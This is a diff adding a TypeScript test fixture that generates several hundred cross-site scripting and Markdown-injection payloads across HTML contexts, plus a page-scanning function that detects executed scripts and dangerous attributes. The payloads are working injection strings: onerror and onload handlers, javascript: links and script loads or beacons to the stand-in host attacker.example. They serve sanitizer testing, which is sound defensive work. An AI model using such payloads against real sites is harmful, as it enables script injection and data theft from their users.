@@ -1,0 +1,111 @@
+/** A text that tries to run a script, to load something from elsewhere, or to break out of its place. */
+export interface HostilePayload {
+  readonly name: string;
+  readonly text: string;
+}
+
+/** What every payload tries to run: it leaves a trace that {@link traceOfHostility} finds. */
+const act = "globalThis.pwned=(globalThis.pwned||0)+1";
+const elsewhere = "https://attacker.example/beacon";
+
+/** Markup that acts by itself, or by a click. */
+const vectors: Readonly<Record<string, string>> = {
+  script: `<script>${act}</script>`,
+  scriptSource: `<script src="${elsewhere}.js"></script>`,
+  imageError: `<img src=x onerror="${act}">`,
+  imageBeacon: `<img src="${elsewhere}.png">`,
+  svgLoad: `<svg onload="${act}"></svg>`,
+  svgScript: `<svg><script>${act}</script></svg>`,
+  svgAnimate: `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
+  svgUse: `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x"></use></svg>`,
+  svgForeign: `<svg><foreignObject><body onload="${act}"></body></foreignObject></svg>`,
+  mathLink: `<math><mtext><a xlink:href="javascript:${act}">x</a></mtext></math>`,
+  frameSource: `<iframe src="javascript:${act}"></iframe>`,
+  frameDocument: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  object: `<object data="javascript:${act}"></object>`,
+  embed: `<embed src="javascript:${act}">`,
+  link: `<a href="javascript:${act}">click</a>`,
+  linkEncoded: `<a href="&#106;avascript&colon;${act}">click</a>`,
+  form: `<form action="javascript:${act}"><input type=submit></form>`,
+  formAction: `<button formaction="javascript:${act}">press</button>`,
+  focus: `<input autofocus onfocus="${act}">`,
+  toggle: `<details open ontoggle="${act}"><summary>x</summary></details>`,
+  media: `<video><source onerror="${act}"></video>`,
+  audio: `<audio src=x onerror="${act}"></audio>`,
+  bodyLoad: `<body onload="${act}">`,
+  marquee: `<marquee onstart="${act}">x</marquee>`,
+  refresh: `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  base: `<base href="${elsewhere}/">`,
+  styleSheet: `<link rel="stylesheet" href="${elsewhere}.css">`,
+  styleImport: `<style>@import "${elsewhere}.css"; * { background: url(${elsewhere}) }</style>`,
+  styleAttribute: `<div style="background:url(${elsewhere});position:fixed;inset:0" onmouseover="${act}">x</div>`,
+  template: `<template shadowrootmode="open"><script>${act}</script></template>`,
+};
+
+/** Where the author expects the text to end up. */
+const contexts: Readonly<Record<string, (vector: string) => string>> = {
+  plain: (vector) => vector,
+  attribute: (vector) => `"'>${vector}`,
+  rawText: (vector) => `</textarea></title></style></script></noscript>${vector}`,
+  comment: (vector) => `<!--><!-- -->${vector}<!-- -->`,
+  markdown: (vector) => `**Dear** reader,\n\n- ${vector}\n\n> ${vector}`,
+  table: (vector) => `| a | b |\n| --- | --- |\n| ${vector} | 1 |`,
+  unclosed: (vector) => `<div title="${vector}`,
+  splitTag: (vector) => vector.replace("<", "<\n").replace(">", "/ >"),
+  upperCase: (vector) => vector.replaceAll(/<(\/?\w+)/g, (tag) => tag.toUpperCase()),
+};
+
+/** What acts by Markdown alone. */
+const markdown: Readonly<Record<string, string>> = {
+  link: `[click](javascript:${act})`,
+  linkCase: `[click](JaVaScRiPt:${act})`,
+  linkEntity: `[click](&#x6A;avascript:${act})`,
+  linkTab: `[click](java\tscript:${act})`,
+  linkControl: `[click](\u0001javascript:${act})`,
+  linkData: `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
+  linkVbscript: `[click](vbscript:MsgBox(1))`,
+  linkFile: `[click](file:///etc/passwd)`,
+  linkBlob: `[click](blob:null/1)`,
+  linkOrigin: `[click](//attacker.example/beacon)`,
+  linkTitle: `[click](https://example.com "x\\" onmouseover=\\"${act}")`,
+  automatic: `<javascript:${act}>`,
+  reference: `[click][r]\n\n[r]: javascript:${act}`,
+  image: `![x](javascript:${act})`,
+  imageBeacon: `![x](${elsewhere}.png)`,
+  imageBreakout: `![x](x"onerror="${act})`,
+  imageData: `![x](data:image/svg+xml,<svg/onload=${encodeURIComponent(act)}>)`,
+  imageReference: `![x][i]\n\n[i]: ${elsewhere}.png`,
+  footnote: `x[^1]\n\n[^1]: <img src=x onerror="${act}">`,
+  fence: `\`\`\`"><img src=x onerror="${act}">\nx\n\`\`\``,
+  clobber: `<form id="root"><input name="attributes"></form> <a id="app" name="location">x</a>`,
+  nesting: `${"[".repeat(60)}x${"](javascript:1)".repeat(60)}`,
+};
+
+/** More than three hundred: each vector in each context, and what Markdown can do by itself. */
+export const hostilePayloads: readonly HostilePayload[] = [
+  ...Object.entries(vectors).flatMap(([vector, text]) =>
+    Object.entries(contexts).map(([context, place]) => ({ name: `${vector} in ${context}`, text: place(text) })),
+  ),
+  ...Object.entries(markdown).flatMap(([name, text]) => [
+    { name: `markdown ${name}`, text },
+    { name: `markdown ${name} in a quote`, text: `> ${text.replaceAll("\n", "\n> ")}` },
+  ]),
+];
+
+/** Runs in the page: what there is of hostile texts beyond text; empty when all is well. */
+export function traceOfHostility(): string[] {
+  const acting =
+    "script:not([src]), iframe:not([src^='blob:']), object, embed, base:nth-of-type(2), meta[http-equiv], form[action], " +
+    "math, marquee, template, [formaction], [srcdoc], main link, main style";
+  const found = [...document.querySelectorAll(acting)].map((element) => element.outerHTML.slice(0, 200));
+  for (const element of document.querySelectorAll("*")) {
+    for (const { name, value } of element.attributes) {
+      const leads = ["href", "src", "xlink:href", "action", "data", "poster"].includes(name);
+      if (name.startsWith("on") || (leads && /^\s*(javascript|vbscript|data:text|file|blob:null)/i.test(value))) {
+        found.push(`${element.tagName} ${name}=${value.slice(0, 100)}`);
+      }
+    }
+  }
+  if ("pwned" in globalThis) found.push("a script ran");
+  return found;
+}
